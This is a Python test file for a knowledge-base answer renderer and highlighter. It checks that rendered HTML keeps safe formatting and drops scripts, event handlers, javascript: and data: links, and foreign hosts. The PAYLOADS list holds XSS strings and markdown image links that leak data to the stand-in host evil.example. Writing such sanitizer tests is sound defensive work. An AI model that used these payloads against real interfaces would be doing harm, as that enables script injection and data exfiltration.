"""What may reach a browser."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.rag.highlight import highlight
from kb.rag.render import render_block, render_inline

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?q=1)",
    "![x][1]\n\n[1]: https://evil.example/leak",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import url(https://evil.example)</style>",
    '"><script>alert(1)</script>',
    '<https://evil.example/a"onmouseover=alert(1)>',
    "`<script>`",
    "&lt;script&gt;",
]
DOCUMENT = """# Travel

Book **flights in _Concur_** at least `14 days` before.

- First item with [a link](https://example.com/a_b)
- Second item

| City | Rate |
|------|------|
| Oslo | 210  |

```
code here
```

Last words.
"""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_image_or_foreign_address_survives(payload: str) -> None:
    """Cases 17 and 18, split at every position as a stream would."""
    for render in (render_inline, render_block):
        for cut in range(len(payload) + 1):
            for part in (payload[:cut], payload[cut:], payload):
                html = render(part)
                tags = re.findall(r"<[^>]*>", html)
                assert not [
                    tag
                    for tag in tags
                    if re.search(r"script|img|svg|iframe|style|\son\w+=|javascript:|data:", tag, re.I)
                ]
                assert not [
                    tag for tag in tags if "evil.example" in tag and not tag.startswith('<a href="https:')
                ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_sentence_of_an_answer_has_no_links(payload: str) -> None:
    assert "<a" not in render_inline(payload)


def test_emphasis_and_tables_are_kept() -> None:
    assert render_inline("**now** and `x`") == "<strong>now</strong> and <code>x</code>"
    assert "<td>210</td>" in render_block(DOCUMENT)


def marked(html: str) -> str:
    return unescape(
        " ".join(re.sub(r"<[^>]*>", "", part) for part in re.findall(r"<mark[^>]*>(.*?)</mark>", html, re.S))
    )


@pytest.mark.parametrize(
    "quote",
    [
        "Book **flights in _Concur_** at least `14 days` before.",
        "_Concur_",
        "**flights",
        "First item with",
        "- First item with [a link](https://example.com/a_b)\n- Second item",
        "# Travel\n\nBook",
        "| Oslo | 210  |",
        "```\ncode here\n```",
        "code here",
        "Last words.",
    ],
)
def test_quoted_words_are_marked_in_the_rendered_document(quote: str) -> None:
    start = DOCUMENT.index(quote)
    html = highlight(DOCUMENT, start, start + len(quote), render_block)
    assert html.count('id="quote"') == 1
    plain = re.sub(r"\(https[^)]*\)|[*_`#|\[\]]|^- ", " ", quote, flags=re.M)
    assert marked(html).split() == plain.split()
    assert 'class="plain"' not in html


def test_words_inside_an_address_are_marked_in_the_plain_text() -> None:
    start = DOCUMENT.index("example.com")
    html = highlight(DOCUMENT, start, start + 11, render_block)
    assert marked(html) == "example.com"


@given(st.text(alphabet="ab *_`#-|\n[]()<>&1.", max_size=80), st.integers(0, 80), st.integers(0, 80))
def test_marking_never_breaks_out(text: str, one: int, other: int) -> None:
    start, end = sorted((min(one, len(text)), min(other, len(text))))
    html = highlight(text, start, end, render_block)
    assert html.count("<mark") == html.count("</mark>")
    assert "\ue000" not in html and "\ue001" not in html
